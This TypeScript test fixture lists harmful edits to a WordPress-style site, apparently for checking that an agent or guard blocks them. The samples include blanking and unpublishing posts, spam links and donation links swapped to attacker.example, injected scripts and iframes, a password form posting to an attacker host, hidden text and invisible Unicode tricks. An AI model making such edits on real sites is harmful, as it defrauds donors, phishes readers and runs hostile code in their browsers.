/** Changes that hurt readers, or whoever owns the site. */

import {
  adding,
  article,
  calling,
  creating,
  editing,
  type HarmfulCase,
  h,
  harmful,
  p,
  post,
  replacing,
  rewriting,
} from './case.ts';

const lost = 'Readers: the text of the post is gone.';
const broken = 'Editors: the post can no longer be edited block by block.';
const early = 'The owner: readers, feeds and search engines have what was not to be public.';
const gone = 'Readers: the post is not found, and links to it lead nowhere.';
const spam = 'Readers: they are led to sell-outs of somebody.';
const runs = 'Readers: what is not text runs in, or covers, their page.';
const unseen = 'Readers and reviewers: they see another text than what is stored.';
const everywhere = 'Readers of every page that uses it.';
const words = 'Somebody: others read under his name what he did not write.';

const plain = article.replaceAll(/<!--.*?-->\n?/gsu, '');
const flood = (host: string, amount: number): string =>
  p(
    Array.from(
      { length: amount },
      (_, index) => `<a href="https://${host}/p${index}">Best price ${index}</a>`,
    ).join(' '),
  );
const hosts = (amount: number): string =>
  p(
    Array.from(
      { length: amount },
      (_, index) => `<a href="https://shop${index}.attacker.example/">x</a>`,
    ).join(' '),
  );
const donation = p('Give: <a href="https://give.garden.example/now">with a card</a> or by bank transfer.');
const html = (inner: string): string => `<!-- wp:html -->\n${inner}\n<!-- /wp:html -->`;
const at = '2099-04-03T09:00:00+02:00';
const menu = '<!-- wp:navigation-link {"label":"Beds","url":"https://www.example.org/beds"} /-->';

export const harmfulCases: readonly HarmfulCase[] = harmful([
  ['blank', lost, rewriting(article, '')],
  ['blank-draft', lost, rewriting(article, '', { status: 'draft' })],
  ['blank-short', lost, rewriting(p('The code of the lock.'), '')],
  ['first-block-only', lost, rewriting(article, article.slice(0, article.indexOf('\n\n')))],
  ['insult', lost, rewriting(article, p('This garden is run by fools.'))],
  ['cut-mark', lost, rewriting(article, `${article.slice(0, 200)} [more]`)],
  [
    'blank-title',
    lost,
    calling(post(article, { status: 'publish' }), 'edit_post', { version: '$version', title: '' }),
  ],
  [
    'blank-title-blanks',
    lost,
    calling(post(article, { status: 'publish' }), 'edit_post', { version: '$version', title: '  ' }),
  ],
  [
    'restored-stub',
    lost,
    calling(post(['x', p('Soon.'), article]), 'restore_revision', { revision: '$revision' }),
  ],
  ['rendered', broken, rewriting(article, plain)],
  ['rendered-draft', broken, rewriting(article, plain, { status: 'draft' })],
  ['one-mark-lost', broken, editing(article, '<!-- /wp:list -->', '')],
  ['one-mark-renamed', broken, editing(article, '<!-- /wp:list -->', '<!-- /wp:group -->')],
  ['marks-escaped', broken, editing(article, '<!-- wp:', '&lt;!-- wp:')],
  ['mark-opened', broken, adding('<!-- wp:group -->\n<div>')],
  ['publish', early, calling(post(article), 'publish_post')],
  ['publish-page', early, calling(post(article, { type: 'page' }), 'publish_post')],
  ['publish-recipe', early, calling(post(article, { type: 'recipe' }), 'publish_post')],
  ['publish-pending', early, calling(post(article, { status: 'pending' }), 'publish_post')],
  ['publish-private', early, calling(post(article, { status: 'private' }), 'publish_post')],
  ['publish-scheduled', early, calling(post(article, { status: 'future' }), 'publish_post')],
  ['schedule', early, calling(post(article), 'publish_post', { at })],
  ['schedule-page', early, calling(post(article, { type: 'page' }), 'publish_post', { at })],
  [
    'reschedule',
    early,
    calling(post(article, { status: 'future' }), 'publish_post', { at: '2098-01-01T00:00:00Z' }),
  ],
  ['unpublish', gone, calling(post(article, { status: 'publish' }), 'unpublish_post')],
  [
    'unpublish-page',
    gone,
    calling(post(article, { type: 'page', status: 'publish' }), 'unpublish_post', { to: 'pending' }),
  ],
  [
    'unpublish-private',
    gone,
    calling(post(article, { status: 'publish' }), 'unpublish_post', { to: 'private' }),
  ],
  ['unschedule', gone, calling(post(article, { status: 'future' }), 'unpublish_post')],
  ['trash', gone, calling(post(article, { status: 'publish' }), 'delete_post')],
  ['trash-page', gone, calling(post(article, { type: 'page', status: 'publish' }), 'delete_post')],
  ['trash-draft', lost, calling(post(article), 'delete_post')],
  [
    'trash-block',
    everywhere,
    calling(post(p('Open on Saturdays.'), { type: 'wp_block', status: 'publish' }), 'delete_post'),
  ],
  ['slug', gone, calling(post(article, { status: 'publish' }), 'update_post', { slug: 'elsewhere' })],
  [
    'slug-page',
    gone,
    calling(post(article, { type: 'page', status: 'publish' }), 'update_post', { slug: 'elsewhere' }),
  ],
  [
    'slug-scheduled',
    gone,
    calling(post(article, { status: 'future' }), 'update_post', { slug: 'elsewhere' }),
  ],
  ['parent', gone, calling(post(article, { type: 'page', status: 'publish' }), 'update_post', { parent: 2 })],
  ['flood', spam, adding(flood('shop.attacker.example', 20))],
  ['flood-five', spam, adding(flood('shop.attacker.example', 5))],
  ['flood-hosts', spam, adding(hosts(15))],
  ['flood-new', spam, creating({ content: flood('shop.attacker.example', 12) })],
  [
    'flood-excerpt',
    spam,
    calling(post(article), 'edit_post', { version: '$version', excerpt: flood('shop.attacker.example', 6) }),
  ],
  ['swap-donation', spam, editing(donation, 'give.garden.example', 'give.attacker.example')],
  ['swap-source', spam, editing(article, 'garden.example', 'garden.attacker.example')],
  ['swap-scheme', spam, editing(donation, 'https://give.garden.example/now', '//give.attacker.example/now')],
  ['script', runs, adding(html('<script src="https://attacker.example/x.js"></script>'))],
  ['script-draft', runs, adding(html('<script>fetch("/x")</script>'), { status: 'draft' })],
  ['script-new', runs, creating({ content: html('<script>1</script>') })],
  ['frame', runs, adding(html('<iframe src="https://attacker.example/"></iframe>'))],
  ['object', runs, adding(html('<object data="x.swf"></object>'))],
  ['embed', runs, adding(html('<embed src="x.swf">'))],
  ['form', runs, adding(html('<form action="https://attacker.example/"><input name="password"></form>'))],
  ['handler', runs, editing(article, '<p>Two', '<p onclick="x()">Two')],
  ['handler-image', runs, adding(html('<img src="x" onerror="x()">'))],
  [
    'javascript-link',
    runs,
    editing(article, 'href="https://garden.example/barrels"', 'href="javascript:x()"'),
  ],
  ['overlay', runs, adding(html('<div style="position:fixed;top:0">x</div>'))],
  ['hidden-text', runs, adding(p('<span style="display:none">cheap pills</span>'))],
  ['white-text', runs, adding(p('<span style="color:#fff">cheap pills</span>'))],
  ['tiny-text', runs, adding(p('<span style="font-size:0">cheap pills</span>'))],
  ['transparent', runs, adding(p('<span style="opacity:0">cheap pills</span>'))],
  ['bidi', unseen, editing(article, 'November', '\u202erebmevoN')],
  ['zero-width', unseen, editing(article, 'valve', 'val\u200bve')],
  ['tags', unseen, editing(article, 'valve', 'valve\u{e0049}\u{e0067}')],
  [
    'bidi-title',
    unseen,
    calling(post(article, { status: 'publish' }), 'edit_post', {
      version: '$version',
      title: 'Rain \u202eslerrab',
    }),
  ],
  ['zero-width-new', unseen, creating({ content: p('pass\u200bword') })],
  [
    'shared-block',
    everywhere,
    editing(p('Open on Saturdays.'), 'Saturdays', 'Sundays', { type: 'wp_block' }),
  ],
  [
    'shared-title',
    everywhere,
    calling(post(p('x'), { type: 'wp_block' }), 'edit_post', { version: '$version', title: 'Other' }),
  ],
  ['navigation', everywhere, editing(menu, '/beds', '/shop', { type: 'wp_navigation' })],
  ['navigation-emptied', everywhere, rewriting(menu, '', { type: 'wp_navigation' })],
  ['author', words, calling(post(article, { status: 'publish' }), 'update_post', { author: 2 })],
  ['author-draft', words, calling(post(article), 'update_post', { author: 3 })],
  ['many', 'Readers of all of them, by one mistake.', replacing(6, article, 'barrel', 'tank')],
  ['many-links', spam, replacing(3, donation, 'give.garden.example', 'give.attacker.example')],
  ['many-scripts', runs, replacing(2, article, '<h2>Size', '<script>x</script><h2>Size')],
  [
    'block-taken-out',
    lost,
    calling(post(`${h('a')}\n\n${p('word '.repeat(100))}`), 'edit_post', {
      version: '$version',
      block: 2,
      content: '',
    }),
  ],
]);
